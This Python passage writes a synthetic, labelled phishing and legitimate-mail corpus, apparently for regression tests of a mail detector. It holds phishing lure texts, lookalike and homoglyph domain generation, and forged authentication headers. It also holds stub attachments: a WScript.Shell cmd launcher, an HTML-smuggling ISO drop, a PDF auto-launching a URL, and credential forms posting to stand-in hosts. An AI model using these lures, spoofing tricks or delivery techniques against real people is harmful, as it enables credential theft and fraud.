#!/usr/bin/env python3
"""Write the labelled test corpus: tests/mail/corpus/{phish,ham}/*.eml and labels.json.

Every message is made up here (fictional people and companies; Microsoft's sample company names
and made-up brands; no real person's mail, no copied third-party sample). It is deterministic:
``python tests/mail/corpus/make_corpus.py`` rewrites the same bytes (a test checks that).

What it is good for: regression of the shipped policy on each kind of phishing and legitimate
mail the issue names. What it is not: real unseen mail — the author of the detector wrote it.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import random
import re
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
R = random.Random(20261206)

FIRST = ["Alice", "Bruno", "Chen", "Dana", "Emeka", "Farah", "Goran", "Hana", "Ivo", "Jun",
         "Kira", "Lars", "Mina", "Nils", "Olu", "Priya", "Quinn", "Rosa", "Sami", "Tove"]
LAST = ["Example", "Sample", "Placeholder", "Testwell", "Mockford", "Fictor", "Demoulin",
        "Stubbs", "Fakeley", "Notreal"]
COMPANIES = ["contoso.com", "fabrikam.com", "northwindtraders.com", "adventure-works.com",
             "tailspintoys.com", "wingtiptoys.com", "woodgrovebank.com", "litwareinc.com",
             "proseware.com", "lucernepublishing.com", "margiestravel.com", "fourthcoffee.com"]
ESPS = ["mailer.sendwave-esp.com", "click.newsrelay-mail.net", "links.bulkpost-esp.com"]
SHORT = ["bit.ly", "tinyurl.com", "cutt.ly", "rb.gy", "is.gd"]
BAD_HOSTS = ["secure-login-portal.top", "account-check.xyz", "verify-session.click",
             "docs-share.online", "mailbox-update.site", "webmail-upgrade.info",
             "cloud-files.icu", "invoice-view.buzz", "auth-renew.live", "sso-gateway.shop"]
BRANDS = [("PayPal", "paypal.com"), ("Microsoft", "microsoft.com"), ("DocuSign", "docusign.net"),
          ("Netflix", "netflix.com"), ("DHL", "dhl.com"), ("Apple", "apple.com"),
          ("Amazon", "amazon.com"), ("Coinbase", "coinbase.com"), ("Dropbox", "dropbox.com"),
          ("LinkedIn", "linkedin.com")]
VICTIM_ORG = "contoso.com"


def person() -> str:
    return f"{R.choice(FIRST)} {R.choice(LAST)}"


def addr(name: str, domain: str) -> str:
    return f"{name.split()[0].lower()}.{name.split()[-1].lower()}@{domain}"


def ip() -> str:
    return f"{R.choice([45, 62, 77, 91, 103, 141, 185, 193, 212])}.{R.randint(1, 254)}.{R.randint(1, 254)}.{R.randint(1, 254)}"


def date(hour: int, minute: int, second: int = 0) -> str:
    return f"Tue, 3 Nov 2026 {hour:02d}:{minute:02d}:{second:02d} +0000"


def mid(domain: str) -> str:
    return f"<{R.getrandbits(64):016x}.{R.randint(1000, 9999)}@{domain}>"


# -- DKIM body hash written independently of the code under test (RFC 6376 §3.4.4 relaxed) --
def relaxed_body_hash(body: str) -> str:
    lines = body.replace("\r\n", "\n").split("\n")
    out = [re.sub(r"[ \t]+", " ", line).rstrip(" \t") for line in lines]
    while out and out[-1] == "":
        out.pop()
    canon = "".join(line + "\r\n" for line in out).encode("utf-8")
    return base64.b64encode(hashlib.sha256(canon).digest()).decode()


def dkim_header(domain: str, body: str, tamper: bool = False) -> str:
    bh = relaxed_body_hash(body + ("\nextra" if tamper else ""))
    sig = base64.b64encode(R.randbytes(128)).decode()
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain}; s=s{R.randint(1, 9)};\n"
            f" h=from:to:subject:date:message-id; bh={bh};\n b={sig}")


# -- receivers -------------------------------------------------------------------------------
def m365_top(sender_host: str, sender_ip: str, auth: str, minute: int) -> list[str]:
    """Exchange Online delivery to contoso.com: internal hops, id-less AR, the edge hop."""
    n = R.randint(100, 999)
    return [
        f"Received: from SA1PR19MB{n}.namprd19.prod.outlook.com (2603:10b6:806:317::17) by "
        f"DM6PR19MB{n + 1}.namprd19.prod.outlook.com with HTTPS; {date(9, minute, 40)}",
        f"Received: from BN9PR03CA0{n}.namprd03.prod.outlook.com (2603:10b6:408:e6::28) by "
        f"SA1PR19MB{n}.namprd19.prod.outlook.com (2603:10b6:806:317::17) with Microsoft SMTP "
        f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.6792.27; "
        f"{date(9, minute, 39)}",
        f"Authentication-Results: {auth}",
        f"Received-SPF: {'Pass' if 'spf=pass' in auth else 'Fail'} (protection.outlook.com: domain "
        f"of sender designates {sender_ip} as permitted sender)",
        f"Received: from {sender_host} ({sender_ip}) by BN8NAM11FT0{n % 90 + 10}.mail.protection."
        f"outlook.com (10.13.177.{n % 250}) with Microsoft SMTP Server id 15.20.6792.20 via "
        f"Frontend Transport; {date(9, minute, 38)}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
    ]


def gmail_top(sender_host: str, sender_ip: str, auth: str, minute: int, rcpt: str) -> list[str]:
    return [
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:6a10:{R.randint(4096, 65535):x}:b0:4f0:{R.randint(4096, 65535):x}:{R.randint(4096, 65535):x} "
        f"with SMTP id x{R.randint(100, 999)}csp{R.randint(1000, 9999)}; {date(9, minute, 41)}",
        f"Return-Path: <bounce@{sender_host.split('.', 1)[-1]}>",
        f"Received: from {sender_host} ({sender_host}. [{sender_ip}]) by mx.google.com with ESMTPS "
        f"id a{R.randint(100, 999)}si{R.randint(100, 999)}.2026.11.03.09.{minute:02d}.40 for <{rcpt}> "
        f"(version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256); {date(9, minute, 40)}",
        f"Received-SPF: {'pass' if 'spf=pass' in auth else 'fail'} (google.com: domain of sender "
        f"designates {sender_ip} as permitted sender) client-ip={sender_ip};",
        f"Authentication-Results: mx.google.com; {auth}",
    ]


def plain_top(sender_host: str, sender_ip: str, minute: int, hops: int = 2) -> list[str]:
    """Older mail through an organisation's own servers: no Authentication-Results at all."""
    out = [f"Received: from mx1.{VICTIM_ORG} (mx1.{VICTIM_ORG} [10.0.0.5]) by mail.{VICTIM_ORG} "
           f"(Postfix) with ESMTP id {R.getrandbits(40):X} for <user@{VICTIM_ORG}>; {date(9, minute, 50)}"]
    out.append(f"Received: from {sender_host} ({sender_host} [{sender_ip}]) by mx1.{VICTIM_ORG} "
               f"(Postfix) with ESMTPS id {R.getrandbits(40):X}; {date(9, minute, 49)}")
    for i in range(hops - 2):
        out.append(f"Received: from localhost (localhost [127.0.0.1]) by {sender_host} (Postfix) "
                   f"with ESMTP id {R.getrandbits(40):X}; {date(9, minute, 48 - i)}")
    return out


def auth_line(spf: str, dkim: str, dmarc: str, mailfrom: str, d: str, hfrom: str,
              ms: bool, compauth: str = "") -> str:
    if ms:
        ca = compauth or ("pass reason=100" if dmarc == "pass" else "fail reason=001")
        return (f"spf={spf} (sender IP is {ip()}) smtp.mailfrom={mailfrom}; dkim={dkim} "
                f"(signature was verified) header.d={d};dmarc={dmarc} action="
                f"{'none' if dmarc == 'pass' else 'quarantine'} header.from={hfrom};compauth={ca}")
    return (f"dkim={dkim} header.i=@{d} header.s=s1 header.b=AbCdEf12; spf={spf} (google.com: "
            f"domain of bounce@{mailfrom} designates sender as permitted) smtp.mailfrom={mailfrom};"
            f" dmarc={dmarc} (p=REJECT sp=REJECT dis={'NONE' if dmarc == 'pass' else 'QUARANTINE'})"
            f" header.from={hfrom}")


def build(top: list[str], headers: list[str], body: str, ctype: str = "text/plain; charset=utf-8",
          dkim_domain: str = "", tamper: bool = False, extra_bottom: list[str] | None = None) -> bytes:
    lines = list(top)
    if dkim_domain:
        lines.append(dkim_header(dkim_domain, body, tamper))
    lines += headers
    lines += extra_bottom or []
    lines += ["MIME-Version: 1.0", f"Content-Type: {ctype}"]
    return ("\n".join(lines) + "\n\n" + body).encode("utf-8", "surrogateescape")


def multipart(parts: list[tuple[str, str, str]], boundary: str | None = None) -> tuple[str, str]:
    """[(content-type line, extra headers, body)] -> (Content-Type value, body)."""
    boundary = boundary or f"=_b{R.getrandbits(48):x}"
    chunks = []
    for ctype, extra, body in parts:
        chunks.append(f"--{boundary}\nContent-Type: {ctype}\n{extra}\n{body}\n")
    return f'multipart/mixed; boundary="{boundary}"', "".join(chunks) + f"--{boundary}--\n"


def attachment(name: str, data: bytes, ctype: str = "application/octet-stream") -> tuple[str, str, str]:
    b64 = base64.encodebytes(data).decode()
    return (f'{ctype}; name="{name}"',
            f'Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="{name}"\n',
            b64)


def html_part(html: str) -> tuple[str, str, str]:
    return ("text/html; charset=utf-8", "", html)


def text_part(text: str) -> tuple[str, str, str]:
    return ("text/plain; charset=utf-8", "", text)


def zip_bytes(members: dict[str, bytes], encrypt: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 3, 9, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    raw = bytearray(buf.getvalue())
    if encrypt:  # set the "encrypted" bit in every local and central header (listing test)
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = 0
            while (i := raw.find(sig, start)) >= 0:
                raw[i + off] |= 1
                start = i + 4
    return bytes(raw)


PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"This program cannot be run in DOS mode" + b"\x00" * 64
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 60
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\x00" * 64
ISO = b"\x00" * 0x8001 + b"CD001" + b"\x01" + b"\x00" * 64
PDF_JS = (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n2 0 obj\n"
          b"<< /S /JavaScript /JS (app.launchURL\\(\"http://invoice-view.buzz/x\"\\)) >>\nendobj\n%%EOF\n")
PDF_PLAIN = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
             b"2 0 obj\n<< /Type /Pages /Count 0 >>\nendobj\n%%EOF\n")
DOCX = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
DOCM = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                  "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500})
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40


def qr_png(text: str) -> bytes:
    """A real QR code image (zxing-cpp writes it, Pillow encodes the PNG)."""
    import zxingcpp
    from PIL import Image

    img = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode).to_image(scale=4)
    view = memoryview(img)
    pil = Image.frombuffer("L", (view.shape[1], view.shape[0]), bytes(view), "raw", "L", 0, 1)
    buf = io.BytesIO()
    pil.save(buf, "PNG")
    return buf.getvalue()


# -- legitimate mail -----------------------------------------------------------------------------
def ham() -> list[tuple[str, str, bytes]]:
    out = []
    for i in range(12):  # colleagues/partners through Microsoft 365, authenticated
        sender_dom = R.choice(COMPANIES[1:])
        who, to = person(), person()
        body = (f"Hi {to.split()[0]},\n\nattached the notes from today's call. Let's meet again "
                f"on Thursday; the agenda is on https://intranet.{sender_dom}/projects/q{i}.\n\n"
                f"Best,\n{who}\n")
        auth = auth_line("pass", "pass", "pass", sender_dom, sender_dom, sender_dom, ms=True)
        top = m365_top(f"mail{i}.{sender_dom}", ip(), auth, 10 + i)
        hdr = [f"From: {who} <{addr(who, sender_dom)}>", f"To: {to} <{addr(to, VICTIM_ORG)}>",
               f"Subject: Notes from the call #{i}", f"Date: {date(9, 10 + i)}",
               f"Message-ID: {mid(sender_dom)}"]
        if i % 3 == 0:
            ctype, body2 = multipart([text_part(body), attachment(f"notes-{i}.pdf", PDF_PLAIN, "application/pdf")])
            out.append(("ham", f"m365-colleague-{i}", build(top, hdr, body2, ctype, dkim_domain=sender_dom)))
        elif i % 3 == 1:
            ctype, body2 = multipart([text_part(body), attachment(f"plan-{i}.docx", DOCX,
                                      "application/vnd.openxmlformats-officedocument.wordprocessingml.document")])
            out.append(("ham", f"m365-colleague-{i}", build(top, hdr, body2, ctype, dkim_domain=sender_dom)))
        else:
            out.append(("ham", f"m365-colleague-{i}", build(top, hdr, body, dkim_domain=sender_dom)))
    for i in range(10):  # newsletters with many links, via an ESP, Gmail-delivered
        brand = R.choice(COMPANIES)
        esp = R.choice(ESPS)
        links = "".join(
            f'<tr><td><a href="https://{"news." + brand if j % 2 else esp}/c/{R.getrandbits(40):x}?u={j}">'
            f'{R.choice(["Read more", "Shop the sale", "Our new range", "View offer", "Details"])}</a></td></tr>\n'
            for j in range(25 + i))
        html = (f"<html><body><h1>{brand.split('.')[0].title()} monthly</h1>\n"
                f'<p><a href="https://news.{brand}/view/{i}">View in browser</a></p><table>{links}</table>'
                f'<img src="https://{esp}/open/{R.getrandbits(32):x}.gif" width="1" height="1">'
                f'<p>You receive this because you subscribed. <a href="https://{esp}/unsub/{i}">Unsubscribe</a>'
                f' | <a href="https://www.{brand}/privacy">https://www.{brand}/privacy</a></p></body></html>\n')
        rcpt = f"reader{i}@gmail.com"
        auth = auth_line("pass", "pass", "pass", f"bounces.{brand}", brand, brand, ms=False)
        top = gmail_top(f"o{i}.{esp}", ip(), auth, 20 + i, rcpt)
        hdr = [f'From: "{brand.split(".")[0].title()} News" <news@{brand}>', f"To: {rcpt}",
               f"Subject: November news from {brand.split('.')[0].title()} ({i})",
               f"Date: {date(9, 20 + i)}", f"Message-ID: {mid(esp)}",
               f"List-Unsubscribe: <https://{esp}/unsub/{i}>", f"Reply-To: hello@{brand}"]
        out.append(("ham", f"newsletter-{i}", build(top, hdr, html, "text/html; charset=utf-8", dkim_domain=brand)))
    for i in range(10):  # 2002-style mailing list: no AR, list headers, footer appended
        list_dom = R.choice(["lists.litwareinc.com", "lists.proseware.com", "groups.fourthcoffee.com"])
        who = person()
        author_dom = R.choice(COMPANIES + ["gmail.com", "yahoo.com"])
        body = (f"On the question of the build flags: I tried -O2 and the regression is gone.\n"
                f"See the log at http://{list_dom.split('.', 1)[1]}/pipermail/dev/{i}.txt\n\n-- \n{who}\n")
        footer = (f"\n_______________________________________________\ndev mailing list\n"
                  f"dev@{list_dom}\nhttps://{list_dom}/mailman/listinfo/dev\n")
        top = [f"Received: from {list_dom} ({list_dom} [{ip()}]) by mail.{VICTIM_ORG} (Postfix) with ESMTP id "
               f"{R.getrandbits(40):X} for <dev-reader@{VICTIM_ORG}>; {date(10, i, 30)}",
               f"Received: from [192.168.1.{R.randint(2, 250)}] (helo=laptop) by {list_dom} with esmtpsa "
               f"(Exim 4.96) (envelope-from <{addr(who, author_dom)}>) id 1q{R.getrandbits(30):x}; {date(10, i, 20)}",
               f"Return-Path: <dev-bounces+reader={VICTIM_ORG}@{list_dom}>"]
        hdr = [f"From: {who} <{addr(who, author_dom)}>", f"To: dev@{list_dom}",
               f"Subject: Re: [dev] build flags ({i})", f"Date: {date(10, i, 10)}",
               f"Message-ID: {mid(author_dom)}", f"Sender: dev-bounces@{list_dom}",
               f"Reply-To: dev@{list_dom}", f"List-Id: dev.{list_dom}",
               f"List-Post: <mailto:dev@{list_dom}>"]
        out.append(("ham", f"mailing-list-{i}",
                    build(top, hdr, body + footer, dkim_domain=author_dom if i % 2 else "", tamper=False)
                    .replace(footer.encode(), footer.encode())))
    for i in range(8):  # old mail: no Authentication-Results, a private relay at the sender
        sender_dom = R.choice(COMPANIES[1:])
        who = person()
        body = f"Hello,\n\nthe quote you asked for is {R.randint(100, 999)} EUR excl. VAT.\n\nRegards,\n{who}\n"
        top = plain_top(f"smtp.{sender_dom}", ip(), 30 + i, hops=2 + i % 3)
        hdr = [f"From: {who} <{addr(who, sender_dom)}>", f"To: buyer@{VICTIM_ORG}",
               f"Subject: Quote {R.randint(1000, 9999)}", f"Date: {date(9, 29 + i)}",
               f"Message-ID: {mid(sender_dom)}"]
        out.append(("ham", f"old-no-auth-{i}", build(top, hdr, body)))
    for i in range(6):  # service notifications: link text = the link
        svc, dom = R.choice([("Fabrikam Cloud", "fabrikam.com"), ("Proseware Tickets", "proseware.com"),
                             ("Woodgrove Bank", "woodgrovebank.com")])
        url = f"https://portal.{dom}/tickets/{R.randint(10000, 99999)}"
        html = (f"<p>Your ticket was updated. Open it here: <a href=\"{url}\">{url}</a></p>"
                f"<p>Manage notifications at <a href=\"https://portal.{dom}/settings\">portal.{dom}</a></p>")
        auth = auth_line("pass", "pass", "pass", f"mail.{dom}", dom, dom, ms=True)
        top = m365_top(f"out{i}.{dom}", ip(), auth, 40 + i)
        hdr = [f'From: "{svc}" <noreply@{dom}>', f"To: user{i}@{VICTIM_ORG}",
               f"Subject: Ticket updated", f"Date: {date(9, 40 + i)}", f"Message-ID: {mid(dom)}"]
        out.append(("ham", f"notification-{i}", build(top, hdr, html, "text/html; charset=utf-8", dkim_domain=dom)))
    # malformed headers and bad charsets (legitimate content)
    sender_dom = "fabrikam.com"
    auth = auth_line("pass", "pass", "pass", sender_dom, sender_dom, sender_dom, ms=True)
    out.append(("ham", "bad-charset-declared", build(
        m365_top("mail.fabrikam.com", ip(), auth, 50), [
            "From: Ivo Sample <ivo.sample@fabrikam.com>", "To: team@contoso.com",
            "Subject: =?x-unknown-charset?Q?R=E9union?=", f"Date: {date(9, 50)}",
            "Message-ID: < [an10]. broken@fabrikam.com>"],
        "Caf\udce9 at 10, r\udce9union after.\n", "text/plain; charset=x-unknown-charset")))
    out.append(("ham", "invalid-utf8-body", build(
        m365_top("mail.fabrikam.com", ip(), auth, 51), [
            "From: Ivo Sample <ivo.sample@fabrikam.com>", "To: team@contoso.com",
            "Subject: Menu", "Date: not a date at all", f"Message-ID: {mid(sender_dom)}"],
        "Men\udcfc: Spa\udcdfetti \udcff\udcfe\n", "text/plain; charset=utf-8")))
    out.append(("ham", "broken-reply-to-syntax", build(
        plain_top("smtp.proseware.com", ip(), 52), [
            "From: Rosa Notreal <rosa.notreal@proseware.com>", "To: Undisclosed recipients:;a",
            "Reply-To: .Proseware-team <rosa.notreal@proseware.com>",
            "Subject: Office closed Friday", f"Date: {date(9, 52)}"],
        "The office is closed on Friday.\n")))
    out.append(("ham", "sendgrid-date-less-received", build(
        ["Received: from mx1.contoso.com (mx1.contoso.com [10.0.0.5]) by mail.contoso.com (Postfix) "
         "with ESMTP id 1A2B3C; " + date(9, 53),
         f"Received: from o1.ptr.sendwave-esp.com ([{ip()}]) by mx1.contoso.com (Postfix) with ESMTPS id 4D5E6F; {date(9, 53)}",
         "Received: by filterdrecv-7b9c 2026-11-03 09:52:58.928333532 +0000 UTC m=+6810983.8"],
        ["From: Fourth Coffee <orders@fourthcoffee.com>", "To: buyer@contoso.com",
         "Subject: Your order has shipped", f"Date: {date(9, 52)}", f"Message-ID: {mid('fourthcoffee.com')}"],
        "Your order 5521 has shipped. Track it at https://www.fourthcoffee.com/orders/5521\n")))
    # an event ticket with a QR code (legitimate)
    auth = auth_line("pass", "pass", "pass", "tickets.fabrikam.com", "fabrikam.com", "fabrikam.com", ms=True)
    ctype, body = multipart([text_part("Your ticket for the Fabrikam summit is attached. Show the QR "
                                       "code at the entrance.\n"),
                             attachment("ticket.png", qr_png("FABRIKAM-SUMMIT-2026-TICKET-0042"), "image/png")])
    out.append(("ham", "ticket-with-qr", build(
        m365_top("out1.tickets.fabrikam.com", ip(), auth, 54),
        ['From: "Fabrikam Events" <tickets@fabrikam.com>', "To: dana.example@contoso.com",
         "Subject: Your ticket", f"Date: {date(9, 54)}", f"Message-ID: {mid('fabrikam.com')}"],
        body, ctype, dkim_domain="fabrikam.com")))
    # a user's report (forwarded as attachment) of a legitimate newsletter
    inner = out[12][2]
    outer_auth = auth_line("pass", "pass", "pass", VICTIM_ORG, VICTIM_ORG, VICTIM_ORG, ms=True)
    ctype, body = multipart([text_part("Is this one real?\n"),
                             ("message/rfc822", "Content-Disposition: attachment\n", inner.decode("utf-8", "surrogateescape"))])
    out.append(("ham", "report-of-newsletter", build(
        m365_top("SA1PR19MB0001.namprd19.prod.outlook.com", "10.1.2.3", outer_auth, 55),
        ["From: Dana Example <dana.example@contoso.com>", "To: phishing@contoso.com",
         "Subject: FW: suspicious?", f"Date: {date(9, 55)}", f"Message-ID: {mid(VICTIM_ORG)}"],
        body, ctype)))
    return out


# -- phishing ---------------------------------------------------------------------------------
def lookalike(brand_dom: str, kind: int) -> str:
    label, tld = brand_dom.split(".", 1)
    if kind == 0:
        return label.replace("l", "1", 1).replace("o", "0", 1) + "." + tld if any(c in label for c in "lo") \
            else label + "s." + tld
    if kind == 1:
        i = R.randint(1, len(label) - 2)
        return label[:i] + label[i + 1:] + "." + tld  # one letter dropped
    if kind == 2:
        return f"{label}-{R.choice(['secure', 'support', 'verify', 'account'])}.com"
    if kind == 3:
        return f"{brand_dom}.{R.choice(['account-check.xyz', 'session-id.top'])}"
    cyr = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "c": "\u0441"}
    swapped = "".join(cyr.get(c, c) for c in label[:3]) + label[3:]
    return (swapped + "." + tld).encode("idna").decode() if swapped != label else label + "-id.com"


def phish() -> list[tuple[str, str, bytes]]:
    out = []
    lures = ["Your account has been suspended. Verify your account within 24 hours to restore access.",
             "Unusual sign-in activity was detected. Confirm your identity to avoid closure.",
             "Your password will expire today. Validate your credentials to keep using your mailbox.",
             "You have received a secure message. Sign in to view the document.",
             "Your mailbox is full. Upgrade your storage quota now."]
    for i in range(15):  # brand lookalike sender + link to a phishing host
        brand, bdom = BRANDS[i % len(BRANDS)]
        fake = lookalike(bdom, i % 5)
        bad = R.choice(BAD_HOSTS)
        text = R.choice(lures)
        html = (f"<p>Dear customer,</p><p>{text}</p><p><a href=\"https://{bad}/{brand.lower()}/login?id={i}\">"
                f"Sign in</a></p><p>{brand} Security Team</p>")
        if i % 3 == 0:  # Microsoft 365 delivered; DMARC of the lookalike passes (attacker owns it)
            auth = auth_line("pass", "pass", "pass", fake, fake, fake, ms=True)
            top = m365_top(f"mail.{fake}", ip(), auth, i)
        elif i % 3 == 1:
            auth = auth_line("pass", "none", "none", fake, fake, fake, ms=False)
            top = gmail_top(f"mail.{fake}", ip(), auth, i, f"victim{i}@gmail.com")
        else:
            top = plain_top(f"mail.{fake}", ip(), i)
        hdr = [f'From: "{brand} Security" <no-reply@{fake}>', f"To: victim{i}@{VICTIM_ORG}",
               f"Subject: {brand}: action required on your account", f"Date: {date(8, i)}",
               f"Message-ID: {mid(fake)}"]
        out.append(("phish", f"lookalike-{i}", build(top, hdr, html, "text/html; charset=utf-8")))
    for i in range(8):  # spoofed brand From, authentication fails at the receiver
        brand, bdom = BRANDS[(i + 3) % len(BRANDS)]
        bad = R.choice(BAD_HOSTS)
        html = (f"<p>{R.choice(lures)}</p><p><a href=\"https://{bad}/r/{i}\">https://www.{bdom}/account</a></p>")
        ms = i % 2 == 0
        auth = auth_line("fail" if i % 4 else "softfail", "none", "fail", bad, "none", bdom, ms=ms,
                         compauth="fail reason=000")
        top = m365_top(f"vps{i}.{bad}", ip(), auth, 20 + i) if ms else gmail_top(
            f"vps{i}.{bad}", ip(), auth, 20 + i, f"victim{i}@gmail.com")
        hdr = [f'From: "{brand}" <service@{bdom}>', f"To: victim{i}@{VICTIM_ORG}",
               f"Subject: Important notice", f"Date: {date(8, 20 + i)}", f"Message-ID: {mid(bad)}"]
        out.append(("phish", f"spoof-dmarc-fail-{i}", build(top, hdr, html, "text/html; charset=utf-8")))
    for i in range(6):  # sender-forged "pass" results below the receiver's own (which say fail)
        brand, bdom = BRANDS[i]
        bad = R.choice(BAD_HOSTS)
        auth = auth_line("fail", "none", "fail", bad, "none", bdom, ms=True)
        top = m365_top(f"relay{i}.{bad}", ip(), auth, 30 + i)
        forged = [f"Authentication-Results: spf=pass smtp.mailfrom={bdom}; dkim=pass header.d={bdom};"
                  f" dmarc=pass action=none header.from={bdom};compauth=pass reason=100",
                  f"Received-SPF: Pass (protection.outlook.com: domain of {bdom} designates 1.2.3.4 as permitted sender)"]
        hdr = [f'From: "{brand} Billing" <billing@{bdom}>', f"To: victim{i}@{VICTIM_ORG}",
               f"Subject: Invoice overdue", f"Date: {date(8, 30 + i)}", f"Message-ID: {mid(bdom)}"]
        html = f"<p>Your payment information must be updated.</p><a href=\"https://{bad}/pay\">Update</a>"
        out.append(("phish", f"forged-auth-{i}", build(top, hdr, html, "text/html; charset=utf-8",
                                                       extra_bottom=forged)))
    for i in range(6):  # display name carries another address; link text shows another host
        bad = R.choice(BAD_HOSTS)
        brand, bdom = BRANDS[(i + 5) % len(BRANDS)]
        comp = R.choice(["hacked-bakery.com", "old-forum.net", "school-district.org"])
        html = (f"<p>{R.choice(lures)}</p><a href=\"http://{bad}/{i}\">https://secure.{bdom}/login</a>")
        top = plain_top(f"mail.{comp}", ip(), 40 + i)
        hdr = [f'From: "support@{bdom}" <wp-admin@{comp}>', f"To: victim{i}@{VICTIM_ORG}",
               f"Subject: Security alert", f"Date: {date(8, 40 + i)}", f"Message-ID: {mid(comp)}"]
        out.append(("phish", f"display-name-address-{i}", build(top, hdr, html, "text/html; charset=utf-8")))
    for i in range(5):  # BEC / advance fee: free-mail reply-to, pressure, no links
        who = person()
        comp = R.choice(COMPANIES[1:])
        body = (f"Hi,\n\nI need you to process an urgent wire transfer today, immediate action is required."
                f" I'm in a meeting, reply by email only.\n\n{who}\nCFO\n")
        auth = auth_line("pass", "none", "none", "mail-host.biz", "none", "mail-host.biz", ms=True,
                         compauth="softpass reason=201")
        top = m365_top("mail-host.biz", ip(), auth, 50 + i)
        hdr = [f"From: {who} <{addr(who, 'mail-host.biz')}>",
               f"Reply-To: {who} <{who.split()[0].lower()}.ceo{i}@{R.choice(['gmail.com', 'outlook.com', 'proton.me'])}>",
               f"To: accounts@{VICTIM_ORG}", "Subject: Urgent request", f"Date: {date(8, 50 + i)}",
               f"Message-ID: {mid('mail-host.biz')}"]
        out.append(("phish", f"bec-freemail-reply-{i}", build(top, hdr, body)))
    att_kinds = [
        ("invoice.pdf.exe", PE, "application/octet-stream"),
        ("scan_0412.js", b"var s=new ActiveXObject('WScript.Shell');s.Run('cmd');", "application/javascript"),
        ("payment\u202efdp.exe", PE, "application/octet-stream"),
        ("order.iso", ISO, "application/octet-stream"),
        ("document.lnk", LNK, "application/octet-stream"),
        ("notes.one", ONENOTE, "application/octet-stream"),
        ("invoice.zip", zip_bytes({"invoice.pdf.exe": PE}), "application/zip"),
        ("statement.zip", zip_bytes({"statement.vbs": b"MsgBox 1"}, encrypt=True), "application/zip"),
        ("outer.zip", zip_bytes({"inner.zip": zip_bytes({"run.bat": b"@echo off"})}), "application/zip"),
        ("report.docm", DOCM, "application/vnd.ms-word.document.macroEnabled.12"),
        ("receipt.pdf", PDF_JS, "application/pdf"),
        ("photo.jpg", PE, "image/jpeg"),
        ("voicemail.html", b"<html><body><form action='https://auth-renew.live/p' method=post>"
         b"<input name=u><input type=password name=p></form></body></html>", "text/html"),
        ("fax.htm", b"<html><script>var d=atob('TVqQAAMAAAAEAAAA');var b=new Blob([d]);"
         b"var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='fax.iso';a.click();"
         b"</script></html>", "text/html"),
        ("update.hta", b"<script>new ActiveXObject('WScript.Shell')</script>", "application/hta"),
    ]
    for i, (name, data, ctype_att) in enumerate(att_kinds):
        comp = R.choice(["hacked-bakery.com", "old-forum.net", "cheap-hosting.biz", "freight-ops.net"])
        text = ("Please find the attached document." if i % 2 else
                "See the attached invoice. The password is: Inv2026\n" if "statement" in name else
                "Please review the attachment today.")
        if "statement" in name:
            text = "Attached your statement. The archive password is: Stm4412"
        top = plain_top(f"mail.{comp}", ip(), i) if i % 2 else m365_top(
            f"mail.{comp}", ip(), auth_line("pass", "none", "none", comp, "none", comp, ms=True,
                                            compauth="softpass reason=201"), i)
        ctype, body = multipart([text_part(text + "\n"), attachment(name, data, ctype_att)])
        hdr = [f"From: Accounts <accounts@{comp}>", f"To: staff{i}@{VICTIM_ORG}",
               f"Subject: Document {R.randint(1000, 9999)}", f"Date: {date(7, i)}",
               f"Message-ID: {mid(comp)}"]
        out.append(("phish", f"attachment-{i}", build(top, hdr, body, ctype)))
    for i in range(5):  # shortener + lure; credential form in the body; data: link; IP link
        comp = R.choice(["hacked-bakery.com", "old-forum.net", "cheap-hosting.biz"])
        if i == 0:
            html = f"<p>{lures[0]}</p><a href=\"https://{SHORT[i]}/x{i}\">Restore access</a>"
        elif i == 1:
            html = (f"<p>{lures[2]}</p><form action=\"https://{BAD_HOSTS[i]}/post\" method=post>"
                    "Email <input name=e> Password <input type=password name=p><input type=submit></form>")
        elif i == 2:
            html = (f"<p>{lures[3]}</p><a href=\"data:text/html;base64,"
                    f"{base64.b64encode(b'<form><input type=password></form>').decode()}\">Open message</a>")
        elif i == 3:
            html = f"<p>{lures[4]}</p><a href=\"http://{ip()}/owa/login.php\">Upgrade now</a>"
        else:
            html = (f"<p>{lures[1]}</p><a href=\"https://{SHORT[i]}/q{i}\">Review activity</a>"
                    f"<a href=\"https://{SHORT[1]}/z{i}\">Secure your account</a>")
        top = plain_top(f"mail.{comp}", ip(), 10 + i)
        hdr = [f"From: Mail Administrator <admin@{comp}>", f"To: user{i}@{VICTIM_ORG}",
               f"Subject: Mailbox notice", f"Date: {date(7, 10 + i)}", f"Message-ID: {mid(comp)}"]
        out.append(("phish", f"content-{i}", build(top, hdr, html, "text/html; charset=utf-8")))
    for i in range(4):  # QR-code lure (image only; socflow does not decode QR codes)
